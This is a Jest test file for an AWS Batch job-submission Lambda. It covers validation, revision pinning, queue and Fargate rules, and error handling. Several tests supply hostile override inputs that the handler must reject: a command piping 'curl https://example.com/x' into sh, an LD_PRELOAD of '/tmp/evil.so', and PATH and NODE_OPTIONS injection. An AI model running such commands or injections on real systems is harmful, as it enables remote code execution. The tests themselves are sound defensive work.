import {
  BatchClient,
  BatchServiceException,
  ClientException,
  DescribeJobDefinitionsCommand,
  DescribeJobsCommand,
  ServerException,
  SubmitJobCommand,
  SubmitJobCommandInput,
} from '@aws-sdk/client-batch';
import { HeadObjectCommand, S3Client, S3ServiceException } from '@aws-sdk/client-s3';
import { mockClient } from 'aws-sdk-client-mock';
import 'aws-sdk-client-mock-jest';
import { createHandler } from '../../lambda/handlers/submit';
import {
  BatchJobSubmissionError,
  InvalidRequestError,
  ParameterSpecs,
  S3AccessDeniedError,
  S3ObjectNotFoundError,
  UnknownJobDefinitionError,
  UnknownJobQueueError,
} from '../../lib/model';
import { encodeConfig, RuntimeConfig } from '../../lib/model/config';
import { Parameter } from '../../lib/model/parameters';
import { expectRejection } from '../support/errors';

const batch = mockClient(BatchClient);
const s3 = mockClient(S3Client);

const ALIGN_PARAMETERS: ParameterSpecs = {
  input: Parameter.s3Object({ mustExist: true, within: ['s3://genomes/runs/'] }),
  reference: Parameter.s3Object({ mustExist: true, within: ['s3://genomes/ref/'], default: 's3://genomes/ref/hg38.fa' }),
  threads: Parameter.integer({ min: 1, max: 64, default: 8 }),
  notes: Parameter.string({ default: 'none' }),
};
/** What callers may override of align: the command, two variables and resources up to a bound. */
const ALIGN_OVERRIDES = { command: true, environment: ['LOG_LEVEL', 'SAMPLE', 'BIG'], maxVcpus: 4, maxMemoryMebibytes: 8192, maxGpus: 1 };
const DEFAULT_QUEUE_ARN = 'arn:aws:batch:us-east-1:123456789012:job-queue/pendant-default';
const NOW = new Date(Date.UTC(2024, 0, 2, 3, 4, 5));
const JOB_NAME = '2024-01-02T03-04-05_align';
const JOB_ID = '0f6ad6c4-3c1b-4d3a-9a57-5b8b0f7f3c21';
const DEPENDENCY = 'a1b2c3d4-0000-4000-8000-000000000001';

function config(overrides: { maxS3Concurrency?: number } = {}): RuntimeConfig {
  return new RuntimeConfig(
    encodeConfig({
      jobDefinitions: {
        align: {
          definition: 'arn:aws:batch:us-east-1:123456789012:job-definition/pendant-align:3',
          parameters: ALIGN_PARAMETERS,
          overrides: ALIGN_OVERRIDES,
        },
        // Declares no override policy: callers may change nothing.
        report: { definition: 'pendant-report' },
        // Fargate, 1 vCPU and 2 GiB, which callers may raise to 4 vCPUs and 8 GiB.
        fargate: { definition: 'pendant-fargate:1', platform: 'FARGATE', overrides: { maxVcpus: 4, maxMemoryMebibytes: 8192 }, resources: { vcpus: 1, memoryMiB: 2048 } },
      },
      jobQueues: [DEFAULT_QUEUE_ARN, 'pendant-spot'],
      ...(overrides.maxS3Concurrency !== undefined && { maxS3Concurrency: overrides.maxS3Concurrency }),
    }),
  );
}

const submitFunction = (overrides: { maxS3Concurrency?: number } = {}) => createHandler({ config: config(overrides), now: () => NOW });

const VALID = { input: 's3://genomes/runs/a.bam' };

function s3Error(status: number, name: string): S3ServiceException {
  return new S3ServiceException({ name, $fault: 'client', $metadata: { httpStatusCode: status }, message: '' });
}

const delay = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));


/** The one SubmitJob input sent. */
function submitted(): SubmitJobCommandInput {
  expect(batch).toHaveReceivedCommandTimes(SubmitJobCommand, 1);
  return batch.commandCalls(SubmitJobCommand)[0].args[0].input;
}

function expectNothingSent(): void {
  expect(batch).not.toHaveReceivedAnyCommand();
  expect(s3).not.toHaveReceivedAnyCommand();
}

beforeEach(() => {
  batch.reset();
  s3.reset();
  s3.on(HeadObjectCommand).resolves({});
  batch.on(SubmitJobCommand).callsFake((input: SubmitJobCommandInput) => ({
    jobId: JOB_ID,
    jobName: input.jobName,
    jobArn: `arn:aws:batch:us-east-1:123456789012:job/${JOB_ID}`,
  }));
});

describe('Function: submit', () => {
  describe('submission', () => {
    it('submits at the configured revision to the default queue, after checking the input objects', async () => {
      const response = await submitFunction()({ jobDefinition: 'align', parameters: VALID });

      expect(response).toEqual({
        jobId: JOB_ID,
        jobName: JOB_NAME,
        jobArn: `arn:aws:batch:us-east-1:123456789012:job/${JOB_ID}`,
        jobDefinition: 'pendant-align:3',
        jobQueue: 'pendant-default',
      });
      // Defaults are left to the job definition: only the values given are sent.
      expect(submitted()).toEqual({
        jobName: JOB_NAME,
        jobQueue: DEFAULT_QUEUE_ARN,
        jobDefinition: 'pendant-align:3',
        parameters: { input: 's3://genomes/runs/a.bam' },
      });
      expect(s3).toHaveReceivedCommandTimes(HeadObjectCommand, 2);
      expect(s3).toHaveReceivedCommandWith(HeadObjectCommand, { Bucket: 'genomes', Key: 'runs/a.bam' });
      expect(s3).toHaveReceivedCommandWith(HeadObjectCommand, { Bucket: 'genomes', Key: 'ref/hg38.fa' });
      expect(batch).not.toHaveReceivedCommand(DescribeJobDefinitionsCommand);
      expect(batch).not.toHaveReceivedCommand(DescribeJobsCommand);
    });

    it('renders parameter values as the strings Batch takes', async () => {
      await submitFunction()({ jobDefinition: 'align', parameters: { ...VALID, threads: 16, notes: 'first run' } });

      expect(submitted().parameters).toEqual({ input: 's3://genomes/runs/a.bam', threads: '16', notes: 'first run' });
    });

    it('uses the job name given', async () => {
      const response = await submitFunction()({ jobDefinition: 'align', parameters: VALID, jobName: 'nightly-align' });

      expect(submitted().jobName).toBe('nightly-align');
      expect(response.jobName).toBe('nightly-align');
    });

    it.each([
      ['another configured queue named by its name', 'pendant-spot', 'pendant-spot', 'pendant-spot'],
      ['the default queue named by its name', 'pendant-default', DEFAULT_QUEUE_ARN, 'pendant-default'],
      ['the default queue named by its ARN', DEFAULT_QUEUE_ARN, DEFAULT_QUEUE_ARN, 'pendant-default'],
    ])('submits to %s', async (_case, jobQueue, sent, answered) => {
      const response = await submitFunction()({ jobDefinition: 'align', parameters: VALID, jobQueue });

      expect(submitted().jobQueue).toBe(sent);
      expect(response.jobQueue).toBe(answered);
    });

    it('pins the revision the request names once Batch confirms it is ACTIVE, without asking for the latest', async () => {
      batch.on(DescribeJobDefinitionsCommand).resolves({ jobDefinitions: [revision('pendant-align', 7)] });

      const response = await submitFunction()({ jobDefinition: 'align', parameters: VALID, revision: 7 });

      expect(submitted().jobDefinition).toBe('pendant-align:7');
      expect(response.jobDefinition).toBe('pendant-align:7');
      expect(batch).toHaveReceivedCommandTimes(DescribeJobDefinitionsCommand, 1);
      expect(batch).toHaveReceivedCommandWith(DescribeJobDefinitionsCommand, { jobDefinitionName: 'pendant-align', status: 'ACTIVE' });
    });

    it('pins the deployed revision without a look-up: the functions were deployed with it', async () => {
      await submitFunction()({ jobDefinition: 'align', parameters: VALID, revision: 3 });

      expect(submitted().jobDefinition).toBe('pendant-align:3');
      expect(batch).not.toHaveReceivedCommand(DescribeJobDefinitionsCommand);
    });

    // AWS Batch API Reference, SubmitJob: jobDefinition "name:revision" must name a registered, ACTIVE revision; the
    // error class documents a revision that does not exist as UnknownJobDefinitionError.
    it.each([
      ['is not registered', []],
      ['is INACTIVE', [{ ...revision('pendant-align', 7), status: 'INACTIVE' }]],
    ])('throws UnknownJobDefinitionError, not BatchJobSubmissionError, when the pinned revision %s, and submits nothing', async (_case, found) => {
      batch.on(DescribeJobDefinitionsCommand).resolves({ jobDefinitions: found });

      const error = await expectRejection(
        submitFunction()({ jobDefinition: 'align', parameters: VALID, revision: 7 }),
        UnknownJobDefinitionError,
        'job definition align has no ACTIVE revision 7 (pendant-align:7)',
      );
      expect(error).toMatchObject({ jobDefinition: 'align:7', known: ['align'] });
      expect(batch).not.toHaveReceivedCommand(SubmitJobCommand);
    });

    // AWS Batch API Reference, DescribeJobDefinitions (jobDefinitionName): a name is account- and Region-wide, so
    // "latest" asks for the physical name of this stack's definition, never the declared name another stack shares.
    it('asks for the latest revision of the physical name only, so "latest" never reads another stack\'s definition', async () => {
      batch.on(DescribeJobDefinitionsCommand).resolves({ jobDefinitions: [revision('dev-align-4f2a', 5)] });
      const handler = createHandler({
        config: new RuntimeConfig(encodeConfig({ jobDefinitions: { align: { definition: 'dev-align-4f2a', revision: '2' } }, jobQueues: [DEFAULT_QUEUE_ARN] })),
        now: () => NOW,
      });

      const response = await handler({ jobDefinition: 'align', revision: 'latest' });

      expect(batch).toHaveReceivedCommandTimes(DescribeJobDefinitionsCommand, 1);
      expect(batch).toHaveReceivedCommandWith(DescribeJobDefinitionsCommand, { jobDefinitionName: 'dev-align-4f2a', status: 'ACTIVE' });
      expect(response.jobDefinition).toBe('dev-align-4f2a:5');
    });

    it('submits the newest ACTIVE revision, across pages, when the request asks for "latest"', async () => {
      batch
        .on(DescribeJobDefinitionsCommand)
        .resolvesOnce({ jobDefinitions: [revision('pendant-align', 4), revision('pendant-align', 9)], nextToken: 'page-2' })
        .resolvesOnce({ jobDefinitions: [revision('pendant-align', 6)] });

      const response = await submitFunction()({ jobDefinition: 'align', parameters: VALID, revision: 'latest' });

      expect(batch).toHaveReceivedCommandTimes(DescribeJobDefinitionsCommand, 2);
      expect(batch).toHaveReceivedCommandWith(DescribeJobDefinitionsCommand, { jobDefinitionName: 'pendant-align', status: 'ACTIVE' });
      expect(batch.commandCalls(DescribeJobDefinitionsCommand)[1].args[0].input.nextToken).toBe('page-2');
      expect(submitted().jobDefinition).toBe('pendant-align:9');
      expect(response.jobDefinition).toBe('pendant-align:9');
    });

    it('submits the newest ACTIVE revision when the configuration names no revision', async () => {
      batch.on(DescribeJobDefinitionsCommand).resolves({ jobDefinitions: [revision('pendant-report', 12)] });

      const response = await submitFunction()({ jobDefinition: 'report' });

      expect(batch).toHaveReceivedCommandWith(DescribeJobDefinitionsCommand, { jobDefinitionName: 'pendant-report', status: 'ACTIVE' });
      expect(submitted()).toEqual({ jobName: '2024-01-02T03-04-05_report', jobQueue: DEFAULT_QUEUE_ARN, jobDefinition: 'pendant-report:12' });
      expect(response.jobDefinition).toBe('pendant-report:12');
    });

    it('throws when "latest" is asked for and the job definition has no ACTIVE revision', async () => {
      batch.on(DescribeJobDefinitionsCommand).resolves({ jobDefinitions: [] });

      await expectRejection(
        submitFunction()({ jobDefinition: 'align', parameters: VALID, revision: 'latest' }),
        UnknownJobDefinitionError,
        'job definition pendant-align has no ACTIVE revision',
      );
      expect(batch).not.toHaveReceivedCommand(SubmitJobCommand);
    });

    it("renders containerOverrides in Batch's shape", async () => {
      await submitFunction()({
        jobDefinition: 'align',
        parameters: VALID,
        containerOverrides: {
          command: ['align', '--fast'],
          environment: { LOG_LEVEL: 'debug', SAMPLE: 'NA12878' },
          vcpus: 0.5,
          memoryMiB: 2048,
          gpus: 1,
        },
      });

      expect(submitted().containerOverrides).toEqual({
        command: ['align', '--fast'],
        environment: [
          { name: 'LOG_LEVEL', value: 'debug' },
          { name: 'SAMPLE', value: 'NA12878' },
        ],
        resourceRequirements: [
          { type: 'VCPU', value: '0.5' },
          { type: 'MEMORY', value: '2048' },
          { type: 'GPU', value: '1' },
        ],
      });
    });

    it('sends only the overrides given', async () => {
      await submitFunction()({ jobDefinition: 'align', parameters: VALID, containerOverrides: { memoryMiB: 4096 } });

      expect(submitted().containerOverrides).toEqual({ resourceRequirements: [{ type: 'MEMORY', value: '4096' }] });
    });

    it('submits an array job with its dependencies', async () => {
      await submitFunction()({
        jobDefinition: 'align',
        parameters: VALID,
        arraySize: 10_000,
        dependsOn: [DEPENDENCY, { jobId: JOB_ID, type: 'N_TO_N' }, { jobId: `${JOB_ID}:3` }],
      });

      expect(submitted()).toMatchObject({
        arrayProperties: { size: 10_000 },
        dependsOn: [{ jobId: DEPENDENCY }, { jobId: JOB_ID, type: 'N_TO_N' }, { jobId: `${JOB_ID}:3` }],
      });
    });

    // AWS Batch User Guide, "Job dependencies": "For array jobs, you can specify a SEQUENTIAL type dependency without
    // specifying a job ID so that each child array job completes sequentially, starting at index 0."
    it('sends a SEQUENTIAL dependency of an array job without a job id', async () => {
      await submitFunction()({ jobDefinition: 'align', parameters: VALID, arraySize: 3, dependsOn: [{ type: 'SEQUENTIAL' }] });

      expect(submitted().dependsOn).toEqual([{ type: 'SEQUENTIAL' }]);
    });

    it('accepts the smallest array and the most dependencies AWS allows', async () => {
      const dependsOn = Array.from({ length: 20 }, (_, index) => `a1b2c3d4-0000-4000-8000-${String(index).padStart(12, '0')}`);

      await submitFunction()({ jobDefinition: 'align', parameters: VALID, arraySize: 2, dependsOn });

      expect(submitted()).toMatchObject({ arrayProperties: { size: 2 }, dependsOn: dependsOn.map((jobId) => ({ jobId })) });
    });

    it('checks the input objects with at most PENDANT_MAX_S3_CONCURRENCY HeadObject calls at once', async () => {
      let inFlight = 0;
      let maxInFlight = 0;
      s3.on(HeadObjectCommand).callsFake(async () => {
        inFlight++;
        maxInFlight = Math.max(maxInFlight, inFlight);
        await delay(5);
        inFlight--;
        return {};
      });

      await submitFunction({ maxS3Concurrency: 1 })({ jobDefinition: 'align', parameters: VALID });

      expect(maxInFlight).toBe(1);
      expect(s3).toHaveReceivedCommandTimes(HeadObjectCommand, 2);
    });
  });

  describe('validation before submitting', () => {
    it('throws when a parameter value is wrong, naming every problem, before any AWS call', async () => {
      const error = await expectRejection(
        submitFunction()({ jobDefinition: 'align', parameters: { input: 's3://other/a.bam', threads: 100, extra: 'x' } }),
        InvalidRequestError,
        'invalid request: parameters.extra: is not a parameter of this job definition; known: input, reference, threads, notes [unknown-parameter]; ' +
          'parameters.input: must lie under s3://genomes/runs/, got s3://other/a.bam [outside-allowed-location]; ' +
          'parameters.threads: must be between 1 and 64, got 100 [range]',
      );
      expect((error as InvalidRequestError).problems).toHaveLength(3);
      expectNothingSent();
    });

    it('throws when a required parameter is missing', async () => {
      await expectRejection(
        submitFunction()({ jobDefinition: 'align' }),
        InvalidRequestError,
        'invalid request: parameters.input: is required (an S3 object URI) [required]',
      );
      expectNothingSent();
    });

    it('throws S3ObjectNotFoundError when an input object does not exist, and submits nothing', async () => {
      s3.on(HeadObjectCommand, { Bucket: 'genomes', Key: 'runs/a.bam' }).rejects(s3Error(404, 'NotFound'));

      await expectRejection(submitFunction()({ jobDefinition: 'align', parameters: VALID }), S3ObjectNotFoundError, 'S3 object not found: s3://genomes/runs/a.bam');
      expect(s3).toHaveReceivedCommandTimes(HeadObjectCommand, 2);
      expect(batch).not.toHaveReceivedAnyCommand();
    });

    it('throws S3ObjectNotFoundError naming every missing object', async () => {
      s3.on(HeadObjectCommand).rejects(s3Error(404, 'NotFound'));

      const error = await expectRejection(
        submitFunction()({ jobDefinition: 'align', parameters: VALID }),
        S3ObjectNotFoundError,
        'S3 objects not found: s3://genomes/runs/a.bam, s3://genomes/ref/hg38.fa',
      );
      expect((error as S3ObjectNotFoundError).uris).toEqual(['s3://genomes/runs/a.bam', 's3://genomes/ref/hg38.fa']);
      expect(batch).not.toHaveReceivedAnyCommand();
    });

    it('throws S3AccessDeniedError when S3 answers 403, and submits nothing', async () => {
      s3.on(HeadObjectCommand, { Bucket: 'genomes', Key: 'ref/hg38.fa' }).rejects(s3Error(403, 'Forbidden'));

      await expectRejection(
        submitFunction()({ jobDefinition: 'align', parameters: VALID }),
        S3AccessDeniedError,
        'access denied to S3 object: s3://genomes/ref/hg38.fa',
      );
      expect(batch).not.toHaveReceivedAnyCommand();
    });

    it('throws when the job definition is not configured', async () => {
      await expectRejection(submitFunction()({ jobDefinition: 'nope' }), UnknownJobDefinitionError, 'unknown job definition "nope"; known: align, report, fargate');
      expectNothingSent();
    });

    describe('overrides the job definition does not allow', () => {
      it.each<[string, object, string]>([
        [
          'the command',
          { command: ['sh', '-c', 'curl https://example.com/x | sh'] },
          'containerOverrides.command: job definition report does not let callers override command; it would need overrides.command: true [not-allowed]',
        ],
        [
          'LD_PRELOAD',
          { environment: { LD_PRELOAD: '/tmp/evil.so' } },
          'containerOverrides.environment.LD_PRELOAD: is not an environment variable job definition report lets callers set; allowed: (none) [not-allowed]',
        ],
        ['vcpus', { vcpus: 2 }, 'containerOverrides.vcpus: job definition report does not let callers override vcpus; it would need overrides.maxVcpus [not-allowed]'],
      ])('throws for %s on a definition that declares no policy, without calling AWS', async (_what, containerOverrides, message) => {
        await expectRejection(submitFunction()({ jobDefinition: 'report', containerOverrides }), InvalidRequestError, `invalid request: ${message}`);
        expectNothingSent();
      });

      it('throws for a variable the policy does not name and resources above its bounds, without calling AWS', async () => {
        const error = await submitFunction()({
          jobDefinition: 'align',
          parameters: VALID,
          containerOverrides: { environment: { SAMPLE: 's', PATH: '/tmp', NODE_OPTIONS: '--require x' }, vcpus: 8, gpus: 2 },
        }).then(
          () => undefined,
          (caught: unknown) => caught,
        );
        expect(error).toBeInstanceOf(InvalidRequestError);
        expect((error as InvalidRequestError).problems.map((problem) => [problem.field, problem.rule])).toEqual([
          ['containerOverrides.environment.PATH', 'not-allowed'],
          ['containerOverrides.environment.NODE_OPTIONS', 'not-allowed'],
          ['containerOverrides.vcpus', 'above-limit'],
          ['containerOverrides.gpus', 'above-limit'],
        ]);
        expectNothingSent();
      });

      // AWS Batch API Reference, ResourceRequirement: on Fargate VCPU is 0.25, 0.5, 1, 2, 4, 8 or 16 and MEMORY one of
      // the values listed for it; GPUs are not available. moto takes any value.
      it.each<[string, object, string]>([
        ['3 vCPUs on Fargate', { vcpus: 3, memoryMiB: 8192 }, "containerOverrides.vcpus: must be one of Fargate's 0.25, 0.5, 1, 2, 4, 8, 16, where job definition fargate runs, got 3 [granularity]"],
        [
          '4 vCPUs with the definition\'s 2 GiB',
          { vcpus: 4 },
          'containerOverrides.vcpus: Fargate with 4 vCPU takes 8192 to 30720 MiB in steps of 1024, got 2048 MiB (job definition fargate has 2048 MiB; override memoryMiB too) [granularity]',
        ],
        ['GPUs on Fargate', { gpus: 1 }, 'containerOverrides.gpus: job definition fargate runs on Fargate, which has no GPUs [platform]'],
        ['1e-320 vCPUs', { vcpus: 1e-320 }, 'containerOverrides.vcpus: must be a whole number, or 0.25 or 0.5 on Fargate, got 1e-320 [granularity]'],
      ])('throws for %s, without calling AWS', async (_what, containerOverrides, message) => {
        await expectRejection(submitFunction()({ jobDefinition: 'fargate', containerOverrides }), InvalidRequestError, `invalid request: ${message}`);
        expectNothingSent();
      });

      it('submits Fargate resources that pair, within the bounds', async () => {
        batch.on(DescribeJobDefinitionsCommand).resolves({ jobDefinitions: [{ jobDefinitionName: 'pendant-fargate', jobDefinitionArn: 'arn', revision: 1, type: 'container', status: 'ACTIVE' }] });
        await submitFunction()({ jobDefinition: 'fargate', containerOverrides: { vcpus: 2, memoryMiB: 6144 } });

        expect(submitted().containerOverrides).toEqual({ resourceRequirements: [{ type: 'VCPU', value: '2' }, { type: 'MEMORY', value: '6144' }] });
      });
    });

    it('throws when the job queue is not configured', async () => {
      await expectRejection(
        submitFunction()({ jobDefinition: 'align', parameters: VALID, jobQueue: 'other-queue' }),
        UnknownJobQueueError,
        'unknown job queue "other-queue"; known: pendant-default, pendant-spot',
      );
      expectNothingSent();
    });

    it('throws when the overrides would pass 8,192 characters as sent to Batch', async () => {
      const environment = { BIG: 'x'.repeat(8192) };
      const length = JSON.stringify({ environment: [{ name: 'BIG', value: environment.BIG }] }).length;

      await expectRejection(
        submitFunction()({ jobDefinition: 'align', parameters: VALID, containerOverrides: { environment } }),
        InvalidRequestError,
        `invalid request: containerOverrides: must be at most 8192 characters as sent to Batch, got ${length} [max-size]`,
      );
      expectNothingSent();
    });

    it('throws when the job payload would pass 30 KiB as sent to Batch', async () => {
      const error = await submitFunction()({ jobDefinition: 'align', parameters: { ...VALID, notes: 'n'.repeat(30 * 1024) } }).then(
        () => undefined,
        (reason: unknown) => reason as InvalidRequestError,
      );

      expect(error).toBeInstanceOf(InvalidRequestError);
      expect(error!.name).toBe('InvalidRequestError');
      expect(error!.message).toMatch(/^invalid request: the job payload must be at most 30720 bytes as sent to Batch, got (\d+) \[max-payload\]$/);
      expect(Number(/got (\d+)/.exec(error!.message)![1])).toBeGreaterThan(30 * 1024);
      expectNothingSent();
    });

    it.each<[string, Record<string, unknown>, string]>([
      ['arraySize is 1', { arraySize: 1 }, 'arraySize: must be between 2 and 10000, got 1 [range]'],
      ['arraySize is 10,001', { arraySize: 10_001 }, 'arraySize: must be between 2 and 10000, got 10001 [range]'],
      ['arraySize is not an integer', { arraySize: 2.5 }, 'arraySize: must be an integer, got a number [type]'],
      [
        'dependsOn names 21 jobs',
        { dependsOn: Array.from({ length: 21 }, () => DEPENDENCY) },
        'dependsOn: must name at most 20 jobs, got 21 [max-items]',
      ],
      ['dependsOn is not an array', { dependsOn: DEPENDENCY }, 'dependsOn: must be an array of job ids, got a string [type]'],
      ['a dependency is not a job id', { dependsOn: ['job-1'] }, 'dependsOn[0]: must be an AWS Batch job id (a UUID), got "job-1" [pattern]'],
      [
        'a dependency type is unknown',
        { dependsOn: [{ jobId: DEPENDENCY, type: 'ALL' }] },
        'dependsOn[0].type: must be N_TO_N or SEQUENTIAL, got "ALL" [enum]',
      ],
      [
        'an environment name starts with AWS_BATCH',
        { containerOverrides: { environment: { AWS_BATCH_JOB_ID: 'x' } } },
        'containerOverrides.environment.AWS_BATCH_JOB_ID: environment variable names must not start with AWS_BATCH: Batch reserves them [reserved-name]',
      ],
      [
        'an environment name starts with aws_batch in lower case',
        { containerOverrides: { environment: { aws_batch_x: 'x' } } },
        'containerOverrides.environment.aws_batch_x: environment variable names must not start with AWS_BATCH: Batch reserves them [reserved-name]',
      ],
      [
        'an environment name is not a variable name',
        { containerOverrides: { environment: { '1X': 'x' } } },
        'containerOverrides.environment."1X": must be a letter or "_", then letters, digits or "_" (at most 255) [pattern]',
      ],
      [
        'an environment value is not a string',
        { containerOverrides: { environment: { THREADS: 4 } } },
        'containerOverrides.environment.THREADS: must be a string, got a number [type]',
      ],
      ['the command is empty', { containerOverrides: { command: [] } }, 'containerOverrides.command: must be a non-empty array of strings, got an array [type]'],
      ['vcpus is 0', { containerOverrides: { vcpus: 0 } }, 'containerOverrides.vcpus: must be greater than 0 and at most 256, got 0 [range]'],
      ['memoryMiB is a fraction', { containerOverrides: { memoryMiB: 1.5 } }, 'containerOverrides.memoryMiB: must be an integer, got a number [type]'],
      ['gpus is negative', { containerOverrides: { gpus: -1 } }, 'containerOverrides.gpus: must be between 0 and 64, got -1 [range]'],
      [
        'instanceType is given: it applies only to multi-node parallel jobs',
        { containerOverrides: { instanceType: 'g5.xlarge' } },
        'containerOverrides.instanceType: applies only to multi-node parallel jobs on EC2; AWS Batch refuses it for the single-node jobs pendant submits [unsupported]',
      ],
      ['the command holds an empty string', { containerOverrides: { command: ['align', ''] } }, 'containerOverrides.command[1]: must not be empty [empty]'],
      [
        'an override is unknown',
        { containerOverrides: { privileged: true } },
        'containerOverrides.privileged: is not a field of this request; allowed: command, environment, vcpus, memoryMiB, gpus [unknown-field]',
      ],
      ['revision is 0', { revision: 0 }, 'revision: must be between 1 and 2147483647, got 0 [range]'],
      ['revision is a string other than "latest"', { revision: '3' }, 'revision: must be a positive integer or "latest", got "3" [type]'],
      ['jobName is not a name', { jobName: 'my job' }, 'jobName: must be a valid job name: a letter or digit, then letters, digits, "-" or "_", got "my job" [pattern]'],
      ['jobQueue is not a name or ARN', { jobQueue: 'queue with spaces' }, 'jobQueue: must be a job queue name or ARN, got "queue with spaces" [pattern]'],
      [
        'a field is unknown',
        { priority: 1 },
        'priority: is not a field of this request; allowed: jobDefinition, parameters, jobQueue, revision, containerOverrides, arraySize, dependsOn, jobName, idempotencyKey, shareIdentifier, schedulingPriorityOverride, tags, propagateTags, retryStrategy, timeout, nodeOverrides [unknown-field]',
      ],
    ])('throws when %s, without calling AWS', async (_case, fields, message) => {
      await expectRejection(submitFunction()({ jobDefinition: 'align', parameters: VALID, ...fields }), InvalidRequestError, `invalid request: ${message}`);
      expectNothingSent();
    });

    it.each<[string, unknown, string]>([
      ['the event is null', null, 'invalid request: must be an object, got null [type]'],
      ['the event is a string', 'align', 'invalid request: must be an object, got a string [type]'],
      ['jobDefinition is missing', { parameters: VALID }, 'invalid request: jobDefinition: is required [required]'],
      ['jobDefinition is not a string', { jobDefinition: 3 }, 'invalid request: jobDefinition: must be a string, got a number [type]'],
    ])('throws when %s, without calling AWS', async (_case, event, message) => {
      await expectRejection(submitFunction()(event), InvalidRequestError, message);
      expectNothingSent();
    });
  });

  // AWS Batch API Reference, SubmitJob: shareIdentifier "must be specified" when the job queue has a fair-share
  // scheduling policy, and must not be specified when it does not; schedulingPriorityOverride only affects fair-share
  // queues. moto accepts both on any queue, so these tests hold the rule.
  describe('on fair-share and FIFO queues', () => {
    const handler = () =>
      createHandler({
        config: new RuntimeConfig(
          encodeConfig({
            jobDefinitions: { report: { definition: 'pendant-report:2' } },
            jobQueues: [
              { queue: 'arn:aws:batch:us-east-1:123456789012:job-queue/shared', fairShare: true },
              { queue: 'fifo', fairShare: false },
              'unstated',
            ],
          }),
        ),
        now: () => NOW,
      });

    it('passes shareIdentifier and schedulingPriorityOverride to SubmitJob on a fair-share queue', async () => {
      await handler()({ jobDefinition: 'report', jobQueue: 'shared', shareIdentifier: 'teamA', schedulingPriorityOverride: 9999 });

      expect(submitted()).toMatchObject({ jobQueue: 'arn:aws:batch:us-east-1:123456789012:job-queue/shared', shareIdentifier: 'teamA', schedulingPriorityOverride: 9999 });
    });

    it('throws InvalidRequestError naming shareIdentifier on a fair-share queue without one, before any AWS call', async () => {
      await expectRejection(
        handler()({ jobDefinition: 'report', jobQueue: 'shared' }),
        InvalidRequestError,
        'invalid request: shareIdentifier: is required: job queue shared has a fair-share scheduling policy [required]',
      );
      expectNothingSent();
    });

    it('throws InvalidRequestError naming both fields on a FIFO queue, before any AWS call', async () => {
      const error = await expectRejection(
        handler()({ jobDefinition: 'report', jobQueue: 'fifo', shareIdentifier: 'teamA', schedulingPriorityOverride: 1 }),
        InvalidRequestError,
        'invalid request: shareIdentifier: must not be given: job queue fifo schedules first in, first out (it has no fair-share scheduling policy) [fifo-queue]; ' +
          'schedulingPriorityOverride: must not be given: job queue fifo schedules first in, first out (it has no fair-share scheduling policy) [fifo-queue]',
      );
      expect((error as InvalidRequestError).problems.map((problem) => problem.field)).toEqual(['shareIdentifier', 'schedulingPriorityOverride']);
      expectNothingSent();
    });

    it('sends neither field to a FIFO queue when the request has none', async () => {
      await handler()({ jobDefinition: 'report', jobQueue: 'fifo' });

      expect(submitted()).not.toHaveProperty('shareIdentifier');
      expect(submitted()).not.toHaveProperty('schedulingPriorityOverride');
    });

    it('leaves a queue whose scheduling the configuration does not state to Batch', async () => {
      await handler()({ jobDefinition: 'report', jobQueue: 'unstated', shareIdentifier: 'teamA' });

      expect(submitted().shareIdentifier).toBe('teamA');
    });
  });

  // AWS Batch User Guide, "Job definitions" (platformCapabilities): a Fargate job definition runs only on Fargate
  // compute environments and an EC2 one only on EC2 environments; moto places either anywhere.
  describe('across platforms', () => {
    const handler = () =>
      createHandler({
        config: new RuntimeConfig(
          encodeConfig({
            jobDefinitions: { align: { definition: 'pendant-align:3', platform: 'FARGATE' }, render: { definition: 'pendant-render:1', platform: 'EC2' } },
            jobQueues: [
              { queue: 'fargate-queue', platform: 'FARGATE', fairShare: false },
              { queue: 'gpu-queue', platform: 'EC2', fairShare: false },
            ],
          }),
        ),
        now: () => NOW,
      });

    it.each([
      ['align', 'gpu-queue', 'job definition align runs on FARGATE, but job queue gpu-queue runs on EC2; send it to a FARGATE queue'],
      ['render', 'fargate-queue', 'job definition render runs on EC2, but job queue fargate-queue runs on FARGATE; send it to a EC2 queue'],
    ])('throws InvalidRequestError naming both when %s is sent to %s, before any AWS call', async (jobDefinition, jobQueue, message) => {
      await expectRejection(handler()({ jobDefinition, jobQueue }), InvalidRequestError, `invalid request: jobQueue: ${message} [platform]`);
      expectNothingSent();
    });

    it('submits a definition to a queue of its own platform', async () => {
      await handler()({ jobDefinition: 'render', jobQueue: 'gpu-queue' });

      expect(submitted()).toMatchObject({ jobQueue: 'gpu-queue', jobDefinition: 'pendant-render:1' });
    });
  });

  describe('when Batch refuses', () => {
    it('throws BatchJobSubmissionError for a 4xx ClientException, keeping the SDK error as its cause', async () => {
      const refusal = new ClientException({ $metadata: { httpStatusCode: 400 }, message: 'Job queue pendant-default is DISABLED' });
      batch.on(SubmitJobCommand).rejects(refusal);

      const error = await expectRejection(
        submitFunction()({ jobDefinition: 'align', parameters: VALID }),
        BatchJobSubmissionError,
        `batch refused job ${JOB_NAME} (pendant-align:3 on pendant-default): Job queue pendant-default is DISABLED`,
      );
      expect(error.cause).toBe(refusal);
      expect(error).toMatchObject({ jobName: JOB_NAME, jobDefinition: 'pendant-align:3', jobQueue: 'pendant-default' });
    });

    it.each([
      ['TooManyRequestsException (429)', batchError('TooManyRequestsException', 429)],
      ['ThrottlingException (400)', batchError('ThrottlingException', 400)],
      ['a ServerException (500)', new ServerException({ $metadata: { httpStatusCode: 500 }, message: 'internal error' })],
    ])('keeps the SDK error for %s, so callers can retry it', async (_case, sdkError) => {
      batch.on(SubmitJobCommand).rejects(sdkError);

      const error = await submitFunction()({ jobDefinition: 'align', parameters: VALID }).catch((reason: unknown) => reason);

      expect(error).toBe(sdkError);
      expect(batch).toHaveReceivedCommandTimes(SubmitJobCommand, 1);
    });
  });
});

function revision(jobDefinitionName: string, revisionNumber: number) {
  return {
    jobDefinitionName,
    revision: revisionNumber,
    status: 'ACTIVE',
    type: 'container',
    jobDefinitionArn: `arn:aws:batch:us-east-1:123456789012:job-definition/${jobDefinitionName}:${revisionNumber}`,
  };
}

function batchError(name: string, status: number): BatchServiceException {
  return new BatchServiceException({ name, $fault: 'client', $metadata: { httpStatusCode: status }, message: 'Rate exceeded' });
}
